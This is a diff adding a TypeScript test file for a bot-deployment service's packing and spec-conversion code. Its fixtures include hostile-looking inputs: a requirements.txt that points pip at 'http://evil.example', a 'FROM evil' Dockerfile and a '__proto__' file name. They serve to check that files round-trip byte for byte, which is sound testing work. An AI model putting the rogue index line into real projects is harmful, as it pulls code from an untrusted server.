@@ -1,0 +1,83 @@
+/** From a request to the spec of a job and back to what a REST worker is told. */
+import { createHash } from 'node:crypto';
+import { Readable } from 'node:stream';
+import { buffer } from 'node:stream/consumers';
+import { pack } from 'tar-stream';
+import { describe, expect, it } from 'vitest';
+import { unwrap } from '#common/problem.ts';
+import { readSafeTar } from '#common/safe-tar.ts';
+import { Secret } from '#common/secret.ts';
+import { type Deployment, defaultBounds, type SourceRequest } from '../core/validate/bot-request.ts';
+import { packFiles, prepareDeployment } from './deployment.ts';
+import { parseSpec } from './spec-request.ts';
+
+const deployment = (source: SourceRequest): Deployment => ({ source, env: new Map([['A', 'b']]), limits: {} });
+const sha256 = 'a'.repeat(64);
+const login = { username: 'me', password: new Secret('pw') };
+
+describe('the files of simple mode', () => {
+  it('are packed byte for byte, the same files always to the same bytes', async () => {
+    const files = new Map([
+      ['bot.py', '\ufeffprint(1)\r\n\0'],
+      ['Dockerfile', 'FROM evil'],
+      ['requirements.txt', '--index-url http://evil.example'],
+      ['данные/a b.txt', 'x'.repeat(1_000_000)],
+      ['__proto__', ''],
+    ]);
+    const bytes = await packFiles(files);
+    expect(await packFiles(new Map([...files].reverse()))).toEqual(bytes);
+    const read = new Map<string, string>();
+    for await (const entry of readSafeTar(Readable.from([bytes]))) {
+      read.set(entry.name, (await buffer(entry.content)).toString());
+    }
+    expect(read).toEqual(files);
+  });
+});
+
+describe('a deployment', () => {
+  const specs: [SourceRequest, string, object][] = [
+    [
+      { kind: 'artifact', sha256, entrypoint: 'bot.py', requirements: ['x'], language: 'python' },
+      'simple',
+      { artifactSha256: sha256, entrypoint: 'bot.py', requirements: ['x'] },
+    ],
+    [{ kind: 'custom_artifact', sha256 }, 'custom', { from: { case: 'artifactSha256', value: sha256 } }],
+    [
+      { kind: 'archive_url', url: 'https://example.com/x.tar' },
+      'custom',
+      { from: { case: 'archiveUrl', value: 'https://example.com/x.tar' } },
+    ],
+    [
+      { kind: 'git', url: 'https://example.com/x.git', ref: 'main', subdir: 'a', login },
+      'custom',
+      {
+        from: {
+          case: 'git',
+          value: { ref: 'main', subdir: 'a', credentials: { username: 'me', password: 'pw' } },
+        },
+      },
+    ],
+    [
+      { kind: 'image', image: 'ghcr.io/me/bot:1', login, pull: true },
+      'image',
+      { image: 'ghcr.io/me/bot:1', pull: true, credentials: { username: 'me', password: 'pw' } },
+    ],
+  ];
+  it.each(specs)('from $kind becomes a spec, which reads back as the same', async (source, mode, value) => {
+    const prepared = await prepareDeployment(deployment(source));
+    expect(prepared).toMatchObject({ mode, spec: { source: { case: mode, value }, env: { A: 'b' } } });
+    expect(prepared.artifactSha256).toBe('sha256' in source ? sha256 : '');
+    expect(prepared.artifact).toBeUndefined();
+    expect(unwrap(parseSpec(prepared.spec, defaultBounds)).source).toEqual(source);
+  });
+
+  it('from an archive keeps the archive as it was sent', async () => {
+    const tar = pack();
+    tar.entry({ name: 'Dockerfile' }, 'FROM scratch');
+    tar.finalize();
+    const bytes = await buffer(tar);
+    const { artifact, artifactSha256, spec } = await prepareDeployment(deployment({ kind: 'inline_archive', bytes }));
+    expect(artifact).toEqual({ sha256: createHash('sha256').update(bytes).digest('hex'), bytes });
+    expect(spec.source.value).toMatchObject({ from: { case: 'artifactSha256', value: artifactSha256 } });
+  });
+});
